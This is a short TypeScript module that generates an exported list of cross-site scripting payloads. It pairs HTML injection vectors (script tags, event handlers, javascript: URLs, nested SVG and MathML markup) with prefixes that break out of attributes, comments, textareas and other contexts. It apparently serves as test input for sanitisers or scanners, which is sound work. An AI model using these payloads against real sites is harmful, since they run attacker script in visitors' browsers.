// Texts that try to become script: breaking out of text, attributes, addresses, scripts and comments.
const code = 'alert(1)'

const elements = [
  `<script>${code}</script>`,
  `<img src=x onerror=${code}>`,
  `<svg onload=${code}>`,
  `<svg><script>${code}</script></svg>`,
  `<math><mtext></p><img src=x onerror=${code}></mtext></math>`,
  `<iframe srcdoc="<script>${code}</script>">`,
  `<iframe src="javascript:${code}">`,
  `<body onload=${code}>`,
  `<details open ontoggle=${code}>`,
  `<input autofocus onfocus=${code}>`,
  `<video><source onerror=${code}></video>`,
  `<a href="javascript:${code}">x</a>`,
  `<form action="javascript:${code}"><button>x</button></form>`,
  `<object data="javascript:${code}">`,
  `<style>@import "javascript:${code}"</style>`,
]

/** What ends the place in which a text stands. */
const escapes = [
  '',
  '">',
  "'>",
  '</title>',
  '</script>',
  '-->',
  '</style>',
  '</textarea>',
  '</p>',
  ']]>',
]

export const payloads: readonly string[] = escapes.flatMap((escape) =>
  elements.map((element) => escape + element),
)
